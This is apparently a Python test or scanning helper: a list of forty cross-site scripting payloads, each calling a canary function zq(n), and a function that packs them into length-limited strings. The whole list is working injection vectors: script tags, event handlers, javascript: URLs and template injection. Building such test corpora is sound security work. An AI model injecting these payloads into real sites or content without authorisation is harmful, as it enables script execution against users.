"""Forty ways to get a script into a page; each calls zq(its number) where it runs."""

PAYLOADS = [
    "<script>zq(1)</script>",
    "<ScRiPt>zq(2)</sCrIpT>",
    "<img src=x onerror=zq(3)>",
    '"><img src=x onerror=zq(4)>',
    "'><img src=x onerror=zq(5)>",
    "<svg onload=zq(6)>",
    "<svg/onload=zq(7)//",
    "<body onload=zq(8)>",
    "<details open ontoggle=zq(9)>",
    "<video><source onerror=zq(10)>",
    "<audio src onerror=zq(11)>",
    "<iframe srcdoc='<script>parent.zq(12)</script>'>",
    "<iframe src=javascript:parent.zq(13)>",
    "<object data=javascript:zq(14)>",
    "<embed src=javascript:zq(15)>",
    "<a href=javascript:zq(16)>x</a>",
    "javascript:zq(17)",
    "<input autofocus onfocus=zq(18)>",
    '" autofocus onfocus=zq(19) x="',
    "' onmouseover=zq(20) x='",
    "</textarea><script>zq(21)</script>",
    "</title><script>zq(22)</script>",
    "</script><script>zq(23)</script>",
    "</style><script>zq(24)</script>",
    "--><script>zq(25)</script>",
    "]]><script>zq(26)</script>",
    "</option></select><img src=x onerror=zq(27)>",
    "<math><mtext></p><img src=x onerror=zq(28)>",
    "<svg><script>zq&#40;29)</script>",
    "<svg><animate onbegin=zq(30) attributeName=x>",
    "<style>@import'javascript:zq(31)'</style>",
    "<link rel=stylesheet href=javascript:zq(32)>",
    "<meta http-equiv=refresh content='0;url=javascript:zq(33)'>",
    "<base href=javascript:zq(34)//>",
    "<form action=javascript:zq(35)><button>x",
    "<isindex type=image src=x onerror=zq(36)>",
    "{{constructor.constructor('zq(37)')()}}",
    "${zq(38)}{% debug %}",
    "&lt;script&gt;zq(39)&lt;/script&gt;",
    "\u202e<img src=x onerror=zq(40)>",
]


def packed(length: int) -> list[str]:
    """All of them in texts of at most so many characters."""
    texts = [""]
    for payload in PAYLOADS:
        if len(texts[-1]) + len(payload) + 1 > length:
            texts.append("")
        texts[-1] = f"{texts[-1]} {payload}".strip()
    return texts
